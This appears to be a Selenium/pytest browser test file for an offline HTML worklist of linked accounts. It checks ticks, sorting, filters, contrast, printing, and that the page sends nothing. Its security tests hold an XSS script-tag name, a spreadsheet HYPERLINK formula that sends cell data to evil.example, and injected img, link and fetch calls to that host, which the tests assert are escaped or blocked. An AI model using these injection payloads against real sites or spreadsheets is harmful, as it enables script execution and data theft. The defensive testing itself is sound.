"""Does the worklist work in a real browser, from a file: ticks, order, filters, paper, and nothing sent anywhere?"""

from __future__ import annotations

import base64
import json
import shutil
import subprocess
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from eccs_backup.linked_apps.inventory import Confidence, Linked, State, Step, Way
from eccs_backup.linked_apps.worklist.page import as_html
from eccs_backup.linked_apps.worklist.words import is_open, title, worst_first
from linked_apps.some_services import ACCOUNT, IMAGE, MADE, SCRIPT, everything, ordinary

webdriver = pytest.importorskip("selenium.webdriver", reason="selenium is not installed")

from selenium.webdriver.common.keys import Keys  # noqa: E402

CHROMIUM, DRIVER = shutil.which("chromium"), shutil.which("chromedriver")
pytestmark = pytest.mark.skipif(not (CHROMIUM and DRIVER), reason="apt-get install chromium chromium-driver")
FLAGS = (
    *("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync"),
    *("--disable-background-networking", "--disable-component-update", "--window-size=1280,1000"),
)
UNTIL = date(2027, 3, 31)
Open = Callable[..., Any]


@contextmanager
def started(profile: Path, **preferences: object) -> Iterator[Any]:
    """A browser of its own, with an empty profile."""
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for flag in (*FLAGS, f"--user-data-dir={profile}"):
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL", "performance": "ALL"})
    options.add_experimental_option("prefs", preferences)
    with pytest.MonkeyPatch.context() as environment:
        environment.setenv("NO_PROXY", "localhost,127.0.0.1")
        browser = webdriver.Chrome(options=options, service=webdriver.ChromeService(DRIVER))
        try:
            yield browser
        finally:
            browser.quit()


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    with started(tmp_path_factory.mktemp("profile")) as browser:
        yield browser


@pytest.fixture
def shown(running: Any, tmp_path: Path) -> Iterator[Open]:
    """Opens the page of some services in the browser, which has forgotten all earlier ticks."""

    def show(services: list[Linked], language: str = "en", width: int = 1280, scheme: str = "light") -> Any:
        screen = {"width": width, "height": 1000, "deviceScaleFactor": 1, "mobile": width < 600}
        running.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", screen)
        features = [{"name": "prefers-color-scheme", "value": scheme}]
        running.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": features})
        path = write(tmp_path, services, language)
        running.get(path.as_uri())
        running.execute_script("localStorage.clear()")
        for log in ("browser", "performance"):
            running.get_log(log)
        running.refresh()
        return running

    yield show
    running.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": False})


def write(folder: Path, services: list[Linked], language: str = "en") -> Path:
    path = folder / "worklist.html"
    path.write_text(as_html(services, ACCOUNT, MADE, language, UNTIL, 4.5), encoding="utf-8")
    return path


def names(browser: Any) -> list[str]:
    """The services that are shown, in their order."""
    script = "return [...document.querySelectorAll('tbody.service:not([hidden]) bdi.name')].map(e => e.textContent)"
    found: list[str] = browser.execute_script(script)
    return found


def text(browser: Any, selector: str) -> str:
    return str(browser.find_element("css selector", selector).text)


def click(browser: Any, selector: str) -> None:
    browser.find_element("css selector", selector).click()


def tick(browser: Any, name: str) -> None:
    browser.find_element("css selector", f'input[aria-label="Done: {name}"]').send_keys(Keys.SPACE)


def ticked(browser: Any) -> set[str]:
    boxes = browser.find_elements("css selector", "td.done input:checked")
    return {box.get_attribute("aria-label").removeprefix("Done: ") for box in boxes}


# Nothing is sent, nothing is run


@pytest.mark.parametrize("language", ["en", "ja"])
def test_opens_without_a_word_to_anybody(shown: Open, language: str) -> None:
    browser = shown(everything(), language)
    assert names(browser) == [title(each) for each in worst_first(everything())]
    assert browser.get_log("browser") == []
    events = [json.loads(each["message"])["message"] for each in browser.get_log("performance")]
    sent = [each["params"]["request"]["url"] for each in events if each["method"] == "Network.requestWillBeSent"]
    assert len(sent) == 1
    assert sent[0].startswith("file:///")
    assert browser.execute_script("return document.documentElement.lang") == language


def test_hostile_text_stays_text(shown: Open) -> None:
    browser = shown(everything())
    click(browser, "#open")
    assert {SCRIPT, IMAGE} <= set(names(browser))
    assert (
        browser.execute_script("return document.querySelectorAll('img, iframe, b b, td script, ul script').length") == 0
    )
    assert browser.execute_script("return document.scripts.length") == 1
    assert "</script><script>alert('name')</script>" in text(browser, f'[data-id="{SCRIPT}"] details')
    assert browser.execute_script("return document.documentElement.scrollWidth <= innerWidth")
    assert browser.get_log("browser") == []
    tick(browser, '=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"click\\")')
    browser.refresh()
    assert '=HYPERLINK("https://evil.example/?"&A1,"click")' in ticked(browser), "its id is __proto__"


def test_what_got_in_all_the_same_would_be_stopped(shown: Open) -> None:
    browser = shown(ordinary())
    browser.execute_script(
        """
        window.stopped = [];
        document.addEventListener("securitypolicyviolation", event => stopped.push(event.effectiveDirective));
        document.body.insertAdjacentHTML("beforeend", `<img src="https://evil.example/x" onerror="window.ran = 1">
          <a id="bad" href="javascript:window.ran = 1">x</a><link rel="stylesheet" href="https://evil.example/x">`);
        document.getElementById("bad").click();
        const script = document.createElement("script");
        script.textContent = "window.ran = 1";
        document.body.append(script);
        """
    )
    stopped = browser.execute_async_script(
        "const done = arguments[0]; fetch('https://evil.example/').catch(() => setTimeout(() => done(stopped), 50))"
    )
    assert {"img-src", "script-src-elem", "style-src-elem", "connect-src"} <= set(stopped)
    assert browser.execute_script("return window.ran") is None


# Ticks


def test_ticks_outlive_the_window(shown: Open) -> None:
    browser = shown(ordinary())
    before = {title(each) for each in ordinary() if not is_open(each)}
    assert ticked(browser) == before == {"食べログ", "Slack", "ホットペッパー"}
    assert text(browser, "#done") == "3 of 23 done"
    tick(browser, "GitHub")
    tick(browser, "Slack")
    tick(browser, "Figma")
    tick(browser, "Figma")
    assert text(browser, "#done") == "3 of 23 done"
    browser.refresh()
    assert ticked(browser) == before - {"Slack"} | {"GitHub"}
    assert browser.execute_script("return document.getElementById('bar').value") == 3
    kept = browser.execute_script("return Object.entries(localStorage)")
    assert [json.loads(value) for _, value in kept] == [[["github.com", True], ["slack.com", False]]]
    assert ACCOUNT not in str(kept)


def test_what_has_the_focus_is_not_below_the_head(shown: Open) -> None:
    browser = shown(ordinary())
    browser.execute_script("scrollTo(0, document.body.scrollHeight)")
    browser.execute_script("document.querySelector('[data-id=\"figma.com\"] input').focus()")
    edges = "return [document.activeElement, document.querySelector('th .by')].map(e => e.getBoundingClientRect())"
    focus, head = browser.execute_script(edges)
    assert 0 < head["bottom"] < focus["top"]
    click(browser, '[data-id="figma.com"] input')
    assert "Figma" in ticked(browser)


def test_ticks_when_the_browser_keeps_nothing(tmp_path: Path) -> None:
    with started(tmp_path / "profile", **{"profile.default_content_setting_values.cookies": 2}) as browser:
        browser.get(write(tmp_path, ordinary()).as_uri())
        tick(browser, "GitHub")
        assert text(browser, "#done") == "4 of 23 done"
        assert text(browser, "#lost").startswith("This browser does not let the page keep ticks")
        assert text(browser, "#ticks") == ""
        assert browser.get_log("browser") == []


def test_without_scripts_it_is_a_list_with_boxes(shown: Open) -> None:
    browser = shown(ordinary())
    browser.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": True})
    browser.refresh()
    assert len(browser.find_elements("css selector", "tbody.service")) == 23
    assert not browser.find_element("css selector", "#tools").is_displayed()
    tick(browser, "GitHub")
    assert "GitHub" in ticked(browser)
    details = browser.find_element("css selector", '[data-id="github.com"] details')
    details.find_element("css selector", "summary").click()
    assert "Please verify your device" in details.text


# Order


BY_NAME = (
    *(
        "Amazon.co.jp",
        "AtCoder",
        "Calendly",
        "Duolingo",
        "Figma",
        "GitHub",
        "IEEE",
        "Miro",
        "Nature Briefing",
        "Notion",
    ),
    *("ORCID", "Overleaf", "Peatix", "pokemon-go.example", "Slack", "Steam", "Wantedly", "Zoom"),
    *("えきねっと", "ホットペッパー", "マイナビ2027", "三井住友銀行", "食べログ"),
)
WORTHS: dict[str, Callable[[Linked], float]] = {
    "done": lambda service: not is_open(service),
    "name": lambda service: BY_NAME.index(title(service)),
    "way": lambda service: list(Way).index(service.way),
    "step": lambda service: list(Step).index(service.step),
    "confidence": lambda service: list(Confidence).index(service.confidence),
    "last": lambda service: service.last or 0,
    "state": lambda service: list(State).index(service.state),
}


@pytest.mark.parametrize("column", WORTHS)
@pytest.mark.parametrize("by_keyboard", [False, True])
def test_sorts_by_each_column(shown: Open, column: str, by_keyboard: bool) -> None:
    browser = shown(ordinary())
    head = browser.find_element("css selector", f'th[data-column="{column}"]')
    button = head.find_element("css selector", "button")
    press = (lambda: button.send_keys(Keys.ENTER)) if by_keyboard else button.click
    start = worst_first(ordinary())
    for order, sign in (("ascending", 1), ("descending", -1), ("ascending", 1)):
        press()
        assert head.get_attribute("aria-sort") == order
        assert names(browser) == [title(each) for each in sorted(start, key=lambda each: sign * WORTHS[column](each))]
    others = browser.find_elements("css selector", f'th[aria-sort]:not([data-column="{column}"])')
    assert {each.get_attribute("aria-sort") for each in others} == {"none"}


# Filters


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        ("github", {"GitHub"}),
        ("ＧｉｔＨｕｂ", {"GitHub"}),
        ("ｴｷﾈｯﾄ", set()),
        ("えきねっと", {"えきねっと"}),
        ("research ieee", {"IEEE"}),
        ("研究室", {"Slack"}),
        ("スカウト", {"Wantedly"}),
        ("<script>", set()),
    ],
)
def test_finds_words(shown: Open, words: str, expected: set[str]) -> None:
    browser = shown(ordinary())
    browser.find_element("css selector", "#find").send_keys(words)
    assert set(names(browser)) == expected
    assert text(browser, "#shown") == f"{len(expected)} of 23 shown"
    assert browser.find_element("css selector", "#nothing").is_displayed() == (not expected)
    click(browser, "#clear")
    assert len(names(browser)) == 23


def test_filters_by_way_state_and_tick(shown: Open) -> None:
    browser = shown(ordinary())

    def expect(fits: Callable[[Linked], bool]) -> None:
        expected = [title(each) for each in worst_first(ordinary()) if fits(each)]
        assert names(browser) == expected
        assert text(browser, "#shown") == f"{len(expected)} of 23 shown"

    click(browser, '.chip[data-value="google"]')
    expect(lambda each: each.way is Way.GOOGLE)
    click(browser, '.chip[data-value="registered"]')
    expect(lambda each: each.way in (Way.GOOGLE, Way.REGISTERED))
    click(browser, '.chip[data-value="moved"]')
    expect(lambda each: each.way in (Way.GOOGLE, Way.REGISTERED) and each.state is State.MOVED)
    click(browser, "#hide")
    expect(lambda each: each.id == "zoom.us")
    assert browser.find_element("css selector", '.chip[data-value="moved"]').get_attribute("aria-pressed") == "true"
    tick(browser, "Zoom")
    expect(lambda each: False)
    click(browser, "#clear")
    expect(lambda each: True)


def test_evidence_opens(shown: Open) -> None:
    browser = shown(ordinary(), "ja")
    details = browser.find_elements("css selector", "details")
    assert len(details) == 23
    assert not [each for each in details if each.get_attribute("open")]
    summary = browser.find_element("css selector", '[data-id="steampowered.com"] summary')
    assert summary.text == "手がかり パスワードの再設定（2件）"
    summary.send_keys(Keys.ENTER)
    opened = text(browser, '[data-id="steampowered.com"] details')
    assert "2件中 1件は送信元を確認済み" in opened
    assert "2026-01-17 Steam アカウントの復旧" in opened
    click(browser, "#open")
    assert len([each for each in details if each.get_attribute("open")]) == 23
    assert text(browser, "#open") == "手がかりをすべて閉じる"
    click(browser, "#open")
    assert not [each for each in details if each.get_attribute("open")]


# Looks


CONTRAST = """
const paint = document.createElement("canvas").getContext("2d", {willReadFrequently: true});
function rgb(color) { paint.clearRect(0, 0, 1, 1); paint.fillStyle = color; paint.fillRect(0, 0, 1, 1);
  return [...paint.getImageData(0, 0, 1, 1).data]; }
const channel = v => v <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4;
function light(color) { const [red, green, blue] = rgb(color).map(v => channel(v / 255));
  return .2126 * red + .7152 * green + .0722 * blue; }
function behind(node) { for (; node; node = node.parentElement) {
  const color = getComputedStyle(node).backgroundColor; if (rgb(color)[3] === 255) return color; } return "white"; }
return [...document.querySelectorAll("body *")].filter(e => e.checkVisibility() && !e.closest(".service:has(:checked)")
  && [...e.childNodes].some(n => n.nodeType === 3 && n.data.trim()))
  .map(e => { const [a, b] = [light(getComputedStyle(e).color), light(behind(e))].sort((x, y) => y - x);
    return [(a + .05) / (b + .05), e.className + ": " + e.textContent.slice(0, 40)]; })
  .filter(found => found[0] < 4.5);
"""


@pytest.mark.parametrize("language", ["en", "ja"])
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [360, 390, 820, 1024, 1280])
def test_fits_and_can_be_read(shown: Open, language: str, scheme: str, width: int) -> None:
    browser = shown(everything(), language, width, scheme)
    click(browser, "#open")
    assert browser.execute_script("return [document.documentElement.scrollWidth, innerWidth]")[0] <= width
    assert browser.execute_script(CONTRAST) == []
    dark = browser.execute_script("return getComputedStyle(document.body).backgroundColor") == "rgb(21, 23, 26)"
    assert dark == (scheme == "dark")


def test_everything_to_press_has_a_name(shown: Open) -> None:
    browser = shown(everything(), "ja", 390)
    for selector in ("button", "input", "a", "summary", "progress", "table"):
        for each in browser.find_elements("css selector", selector):
            if each.is_displayed():
                assert each.accessible_name, each.get_attribute("outerHTML")


# Paper


def printed(browser: Any, folder: Path) -> tuple[list[str], str]:
    """The text of each page on paper, and what pdfinfo says of them."""
    found = browser.execute_cdp_cmd("Page.printToPDF", {"preferCSSPageSize": True, "printBackground": False})
    path = folder / "worklist.pdf"
    path.write_bytes(base64.b64decode(found["data"]))
    said = [
        subprocess.run(command, check=True, capture_output=True, text=True).stdout
        for command in (["pdftotext", "-layout", str(path), "-"], ["pdfinfo", str(path)])
    ]
    return said[0].split("\f")[:-1], said[1]


@pytest.mark.skipif(not shutil.which("pdftotext"), reason="apt-get install poppler-utils")
def test_on_paper(shown: Open, tmp_path: Path) -> None:
    browser = shown(ordinary())
    click(browser, "#open")
    tick(browser, "GitHub")
    pages, about = printed(browser, tmp_path)
    assert "(A4)" in about
    assert 2 <= len(pages) <= 4
    assert [page.count("First step") for page in pages] == [1] * len(pages), "the head stands on every page, once"
    paper = "\n".join(pages)
    assert f"{ACCOUNT} - made on 2027-03-03 by eccs-backup" in paper
    assert "https://github.com/settings/emails" in paper
    assert "Evidence Security notice or code (9) · Saved password (1)" in paper
    assert paper.count("✓") == 4
    assert paper.count("While Google still lets you in") == 1
    for hidden in (
        "Please verify your device",
        "Open the change page",
        "Clear filters",
        "23 of 23 shown",
        "Ticks are kept",
    ):
        assert hidden not in paper
